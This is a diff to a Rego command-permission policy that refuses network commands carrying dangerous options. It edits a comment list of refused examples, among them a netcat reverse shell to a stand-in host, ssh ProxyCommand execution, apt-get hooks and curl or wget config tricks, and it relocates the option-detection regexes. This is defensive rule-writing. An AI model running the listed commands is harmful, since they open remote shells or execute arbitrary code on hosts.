@@ -46,7 +46,7 @@ allow contains {"rule": "network.use"} if {
 #     "nc -e /bin/sh api.example.com 22", "nc -l 8080", "ncat --exec ./x api.example.com 22", "ncat -klp 80",
 #     "ssh -o ProxyCommand=./x api.example.com", "ssh -oLocalCommand=x h", "ssh -F x api.example.com", "ssh -R 80:a:80 h", "apt-get install x",
 #     "apt-get -o APT::Update::Pre-Invoke::=./x update", "apt-get -o Dir::Bin::methods=/tmp/x update", "apt-get update \"$X\"", "curl \"$X\"",
-#     "dig -f x", "telnet -n x h"
+#     "dig -f x", "telnet -n x h", "curl -sKx https://api.example.com", "curl --conf x https://api.example.com", "wget -euse_askpass=./x y"
 #   ]
 #   reaches: [
 #     "curl -s -H 'Accept: application/json' -X POST -d @body.json https://api.example.com/v1", "ssh -T -o BatchMode=yes git@api.example.com",
@@ -58,6 +58,12 @@ deny contains lib.denial(
 	"remove it",
 ) if {
 	client
+	some word in refused_words
+}
+
+refused_words contains word if some word in input.command.refused
+
+refused_words contains word if {
 	some word in input.command.argv
 	regex.match(client_options[input.command.program], word)
 }
@@ -82,17 +88,6 @@ only_placeholders if {
 }
 
 client_options := {
-	"curl": concat("", [
-		`^(-[a-zA-Z0-9#]*[Kn]|--(config|netrc.*|engine|unix-socket|abstract-unix-socket|libcurl|cert|key`,
-		`|proxy-cert|proxy-key)(=.*)?)$`,
-	]),
-	"wget": concat("", [
-		`^(-e|--(execute|use-askpass|config|input-file|load-cookies|background|certificate|private-key`,
-		`|.*-command)(=.*)?|-[a-zA-Z]*[ib])$`,
-	]),
-	"nc": netcat,
-	"ncat": netcat,
-	"netcat": netcat,
 	"ssh": concat("", [
 		`^(-[46AaCfGgKkMNnqsTtVvXxYy]*[DEFIJLMORSWwXYAfg].*|-o(ProxyCommand|ProxyJump|LocalCommand`,
 		`|PermitLocalCommand|KnownHostsCommand|Include|Match|.*Forward|ControlPath|PKCS11Provider`,
@@ -106,8 +101,3 @@ client_options := {
 	"drill": `^-[fkw]`,
 	"telnet": `^-[nXe]`,
 }
-
-netcat := concat("", [
-	`^-[a-zA-Z0-9]*[eclLkg]|^--(exec|sh-exec|lua-exec|listen|keep-open|broker|chat|proxy.*|output`,
-	`|hex-dump)`,
-])
